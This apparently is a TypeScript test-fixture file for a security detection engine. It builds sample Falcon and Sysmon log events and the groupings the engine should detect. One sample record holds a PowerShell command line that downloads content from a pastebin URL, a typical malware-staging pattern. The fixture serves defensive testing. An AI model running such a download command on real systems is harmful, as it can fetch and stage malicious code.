/** Small hand-written records for engine tests; the expected groups follow docs/detection.md. */

export const falconLines = {
  aidmaster: '{"aid":"a1","ComputerName":"WKS-7","AgentVersion":"7.10","event_platform":"Win"}',
  process:
    '{"event_simpleName":"ProcessRollup2","aid":"a1","TargetProcessId":"100","ImageFileName":"\\\\Device\\\\HarddiskVolume2\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","CommandLine":"powershell -nop -c iwr https://pastebin.com/raw/abc","ParentBaseFileName":"explorer.exe","UserName":"jdoe","timestamp":"1709287199000"}',
  dns: '{"event_simpleName":"DnsRequest","aid":"a1","ContextProcessId":"100","DomainName":"pastebin.com.","IP4Records":"104.20.67.143;","ContextTimeStamp":"1709287200.123","timestamp":"1709287200500"}',
};

/**
 * The one group `falconLines` make: WKS-7 / jdoe / powershell.exe / pastebin.com, two events: the
 * process start (its command line names https://pastebin.com, at its `timestamp`
 * 2024-03-01T09:59:59.000Z) and the DNS query (2024-03-01T10:00:00.123Z).
 */
export const falconGroup = {
  host: 'WKS-7',
  user: 'jdoe',
  process: 'powershell.exe',
  domain: 'pastebin.com',
  count: 2,
  firstSeen: Date.parse('2024-03-01T09:59:59.000Z'),
};

export const falconNdjson = (...extra: string[]): string =>
  [falconLines.aidmaster, falconLines.process, ...extra, falconLines.dns].join('\n');

export function sysmonDns(
  query: string,
  image = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
): string {
  return `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>22</EventID><TimeCreated SystemTime='2024-03-01T10:00:00.1230000Z'/><Computer>WKS-7</Computer></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2024-03-01 10:00:00.123</Data><Data Name='ProcessGuid'>{11111111-2222-3333-4444-555555555555}</Data><Data Name='ProcessId'>4242</Data><Data Name='QueryName'>${query}</Data><Data Name='QueryStatus'>0</Data><Data Name='QueryResults'>::ffff:104.20.67.143;</Data><Data Name='Image'>${image}</Data><Data Name='User'>CORP\\jdoe</Data></EventData></Event>`;
}

export const sysmonGroup = {
  host: 'WKS-7',
  user: 'CORP\\jdoe',
  process: 'powershell.exe',
  domain: 'pastebin.com',
  count: 1,
  firstSeen: Date.parse('2024-03-01T10:00:00.123Z'),
};

export async function* chunks(...parts: Uint8Array[]): AsyncGenerator<Uint8Array> {
  for (const p of parts) yield p;
}
